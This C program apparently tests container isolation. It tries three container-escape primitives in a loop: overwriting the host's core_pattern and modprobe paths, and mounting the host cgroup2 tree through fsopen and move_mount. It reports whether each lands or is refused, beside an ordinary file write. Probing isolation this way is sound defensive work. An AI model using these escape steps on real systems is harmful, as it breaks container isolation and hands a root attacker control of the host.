// Escapes from a privileged container by an attacker with a root shell, beside ordinary use of a file:
// escape once|forever
//
// For each it prints `<way> landed | refused | failed <errno>`. The host sees a success: its core_pattern and its module
// loader name a program of the container, and its control groups hold one that the container made. SIGTERM ends it
// between two attempts, so that every attempt is reported.
#include <errno.h>
#include <fcntl.h>
#include <linux/mount.h>
#include <signal.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

/* The services share the emulated processors, and answer twice as fast as with 100 ms. */
#define EVERY_US 300000
#define TRY(call) \
	do { \
		if ((long)(call) < 0) \
			return errno; \
	} while (0)

static volatile sig_atomic_t ending;
static void on_term(int signal)
{
	ending = signal;
}

static int put(const char *path, int flags, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC | flags, 0644), failed = 0;

	TRY(fd);
	if (write(fd, text, strlen(text)) < 0)
		failed = errno;
	close(fd);
	return failed;
}
static int core_pattern(void)
{
	return put("/proc/sys/kernel/core_pattern", 0, "|/escaped");
}
static int module_loader(void)
{
	return put("/proc/sys/kernel/modprobe", 0, "/escaped");
}
static int ordinary(void)
{
	return put("/tmp/notes", O_CREAT | O_TRUNC, "ordinary\n");
}

/* The host's tree of control groups, by fsopen, fsmount and move_mount instead of mount(2). */
static int host_mount(void)
{
	int context = syscall(SYS_fsopen, "cgroup2", FSOPEN_CLOEXEC), tree;

	TRY(context);
	TRY(syscall(SYS_fsconfig, context, FSCONFIG_CMD_CREATE, NULL, NULL, 0));
	tree = syscall(SYS_fsmount, context, FSMOUNT_CLOEXEC, 0);
	TRY(tree);
	TRY(syscall(SYS_move_mount, tree, "", AT_FDCWD, "/mnt", MOVE_MOUNT_F_EMPTY_PATH));
	TRY(mkdir("/mnt/escaped", 0755));
	return 0;
}

static void tell(const char *way, int failed)
{
	if (failed == 0)
		printf("%s landed\n", way);
	else if (failed == EPERM)
		printf("%s refused\n", way);
	else
		printf("%s failed %d\n", way, failed);
	fflush(stdout);
}

int main(int argc, char **argv)
{
	int forever = argc > 1 && strcmp(argv[1], "forever") == 0;
	struct sigaction action = { .sa_handler = on_term };

	sigaction(SIGTERM, &action, NULL);
	do {
		tell("core_pattern", core_pattern());
		if (ending)
			break;
		tell("host-mount", host_mount());
		if (ending)
			break;
		tell("modprobe", module_loader());
		tell("ordinary", ordinary());
		if (forever && !ending)
			usleep(EVERY_US);
	} while (forever && !ending);
	return 0;
}
